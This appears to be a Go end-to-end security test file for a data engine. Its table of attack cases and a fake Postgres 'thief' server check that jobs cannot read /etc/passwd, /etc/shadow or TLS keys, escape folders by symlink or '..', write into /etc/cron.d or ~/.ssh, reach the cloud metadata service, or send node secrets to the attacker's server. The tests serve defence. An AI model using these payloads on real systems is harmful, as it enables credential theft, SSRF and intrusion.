package e2e_test

import (
	"bytes"
	"crypto/rand"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	enginev1 "github.com/f708428e/engine/proto/engine/v1"
)

// writes has alice write a sink, and returns what she is told.
func (b *besieged) writes(sink string, flags ...string) string {
	b.place.t.Helper()
	job := b.write("sink.yaml", "source:\n  csv: {paths: [\"data/*.csv\"], delimiter: \";\"}\nsink:\n  "+sink+"\n")
	return b.says(b.submits("alice", job, append([]string{"--wait", "--set", "queue=a"}, flags...)...)...)
}

// thief is a server that says to be Postgres and asks for the password in clear text. It returns its address, and says what it was told.
func (b *besieged) thief() (address string, told func() string) {
	b.place.t.Helper()
	listener, err := net.Listen("tcp", net.JoinHostPort(b.net+"254", "0"))
	if err != nil {
		b.place.t.Fatal(err)
	}
	var mu sync.Mutex
	var heard bytes.Buffer
	var serving sync.WaitGroup
	serve := func(conn net.Conn) {
		defer func() { _ = conn.Close() }()
		_ = conn.SetDeadline(time.Now().Add(time.Minute))
		buffer := make([]byte, 1<<16)
		for {
			n, err := conn.Read(buffer)
			if err != nil {
				return
			}
			mu.Lock()
			heard.Write(buffer[:n])
			mu.Unlock()
			const encryption = 8
			if n == encryption {
				_, _ = conn.Write([]byte("N"))
				continue
			}
			_, _ = conn.Write([]byte{'R', 0, 0, 0, 8, 0, 0, 0, 3})
		}
	}
	serving.Go(func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			serving.Go(func() { serve(conn) })
		}
	})
	return listener.Addr().String(), func() string {
		_ = listener.Close()
		serving.Wait()
		return heard.String()
	}
}

// runs has alice submit a job as it is, while the program would make absolute paths of what it names, and returns what she is told.
func (b *besieged) runs(spec *enginev1.JobSpec) string {
	b.place.t.Helper()
	response, err := b.jobs().SubmitJob(b.user("alice"), &enginev1.SubmitJobRequest{Spec: spec})
	if err != nil {
		return answer(nil, err)
	}
	return b.says(append([]string{"job", "wait", response.GetJob().GetJobId()}, b.as("alice")...)...)
}

// finds has alice read what a pattern matches that is a URL; of what is in /etc she is to be told nothing.
func (b *besieged) finds(pattern string) string {
	b.place.t.Helper()
	spec := b.spec("a", b.path("found-"+rand.Text()))
	spec.Source.GetCsv().Paths = []string{pattern}
	said := b.runs(spec)
	if rest := strings.ReplaceAll(said, pattern, ""); strings.Contains(rest, "passwd") {
		return "it has read or named /etc/passwd: " + strings.ReplaceAll(said, refusedPlace, "")
	}
	return said
}

// steals has alice read a table of the thief's with a secret of the node as the password, which she does not send with the job.
func (b *besieged) steals(reference string) string {
	b.place.t.Helper()
	address, told := b.thief()
	spec := b.spec("a", b.path("of-the-thief"))
	spec.Source = &enginev1.Source{Kind: &enginev1.Source_Postgres{Postgres: &enginev1.PostgresSource{
		Url: "postgres://u@" + address + "/db?sslmode=disable", Table: "t", Password: "${secret:" + reference + "}",
	}}}
	said := b.runs(spec)
	if text := told(); strings.Contains(text, canaryNode) || strings.Contains(text, "root:") {
		return fmt.Sprintf("the thief was told %q", text)
	}
	return said
}

const (
	refusedPlace   = "who runs the node can allow a folder: --allow-path"
	refusedStorage = "--allow-s3"
)

var placeAttacks = []attack{
	{does: "reads /etc/passwd as CSV", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["/etc/passwd"]}`)
	}},
	{does: "reads it as file:///etc/passwd", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["file:///etc/passwd"]}`)
	}},
	{does: "reads it by a pattern, /etc/pass*", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["/etc/pass*"]}`)
	}},
	{does: "reads it by a pattern whose first part is one, /e*/passwd", gets: []string{"FAILED", refusedPlace}, try: func(b *besieged) string {
		said := b.reads(`csv: {paths: ["/e*/passwd"]}`)
		if strings.HasPrefix(said, "exit code 0") || strings.Contains(said, "/etc") {
			return "it has read or named /etc/passwd: " + strings.ReplaceAll(said, refusedPlace, "")
		}
		return said
	}},
	{does: "reads it by a pattern that is a URL, file:///etc/pass*", gets: []string{forbidden, refusedPlace}, try: func(b *besieged) string {
		return b.finds("file:///etc/pass*")
	}},
	{does: "reads it by such a pattern with a host, file://localhost/etc/pass*", gets: []string{forbidden, refusedPlace}, try: func(b *besieged) string {
		return b.finds("file://localhost/etc/pass*")
	}},
	{does: "reads it by a URL whose first part is a pattern, file:///e*/passwd", gets: []string{"FAILED", refusedPlace}, try: func(b *besieged) string {
		return b.finds("file:///e*/passwd")
	}},
	{does: "asks by such a pattern whether a file is there, file:///etc/not-ther?", gets: []string{forbidden, refusedPlace}, try: func(b *besieged) string {
		return b.finds("file:///etc/not-ther?")
	}},
	{does: "reads it by a symbolic link in a folder of its own", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		if err := os.Symlink("/etc", b.path("data-of-mine")); err != nil {
			b.place.t.Fatal(err)
		}
		return b.reads(`csv: {paths: ["data-of-mine/passwd"]}`)
	}},
	{does: "reads it by .. out of a folder of its own", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		up := strings.Repeat("../", strings.Count(b.dir, "/")+1)
		return b.reads(`csv: {paths: ["` + b.path("data") + "/../" + up + `etc/passwd"]}`)
	}},
	{does: "reads the environment of the head and the worker, /proc/self/environ", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["/proc/self/environ"]}`)
	}},
	{does: "reads a file that the head has open, /dev/fd/3", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["/dev/fd/3"]}`)
	}},
	{does: "reads the authority's key in the head's data folder", gets: []string{"exit code 5", "ca.key: it belongs to the node itself"}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["head/tls/ca.key"]}`)
	}},
	{does: "reads the worker's key in its data folder", gets: []string{"FAILED", "node.key: it belongs to the node itself"}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["w-1/tls/node.key"]}`)
	}},
	{does: "has a file of the system be its model", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.scores("/etc/ssl/model.onnx")
	}},
	{does: "writes into /etc", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		return b.writes(`csv: {path: "/etc/cron.d/engine"}`)
	}},
	{does: "writes into the head's data folder", gets: []string{"exit code 5", "it belongs to the node itself"}, try: func(b *besieged) string {
		return b.writes(`csv: {path: "head/events/mine"}`)
	}},
	{does: "writes keys into the home of the head's user, .ssh", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		home, err := os.UserHomeDir()
		if err != nil {
			b.place.t.Fatal(err)
		}
		return b.writes(`csv: {path: "` + filepath.Join(home, ".ssh", "mine") + `"}`)
	}},
	{does: "writes rejected rows into /etc, by the field beside the sink", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		job := b.write("rejects.yaml", "source:\n  csv: {paths: [\"data/*.csv\"], delimiter: \";\"}\non_bad_row: {action: dead_letter, path: /etc/rejected}\nsink:\n  parquet: {path: rejects-out}\n")
		return b.says(b.submits("alice", job, "--wait", "--set", "queue=a")...)
	}},
	{does: "names a cloud's metadata service as an S3 endpoint", gets: []string{"FAILED", "metadata service"}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["s3://latest/meta-data?endpoint=http://169.254.169.254"]}`)
	}},
	{does: "names it by the address as one number", gets: []string{"FAILED", refusedStorage}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["s3://latest/meta-data?endpoint=http://2852039166"]}`)
	}},
	{does: "names it by IPv6 with the IPv4 address in it", gets: []string{"FAILED", "metadata service"}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["s3://latest/meta-data?endpoint=http://[::ffff:169.254.169.254]"]}`)
	}},
	{does: "names a server of its own as an S3 endpoint, to be sent the worker's credentials", gets: []string{"FAILED", refusedStorage}, try: func(b *besieged) string {
		return b.reads(`csv: {paths: ["s3://bucket/data.csv?endpoint=http://127.0.0.1:1"]}`)
	}},
	{does: "has its model at the metadata service", gets: []string{"exit code 2", "s3:// is not available"}, try: func(b *besieged) string {
		return b.scores("s3://latest/model?endpoint=http://169.254.169.254")
	}},
	{does: "has a secret of the node's environment sent to a server of its own", gets: []string{"may not read it for jobs"}, try: func(b *besieged) string {
		return b.steals("env:NODE_PASSWORD")
	}},
	{does: "has a secret file of the node sent to a server of its own", gets: []string{"may not read it for jobs"}, try: func(b *besieged) string {
		return b.steals("file:/etc/shadow")
	}},
	{does: "keeps an object in a folder of the system", gets: []string{"exit code 5", refusedPlace}, try: func(b *besieged) string {
		said := b.says(append([]string{"object", "checkpoint", b.object.String(), "/etc/engine-objects"}, b.as("alice")...)...)
		if exists("/etc/engine-objects") {
			return "it is there"
		}
		return said
	}},
}
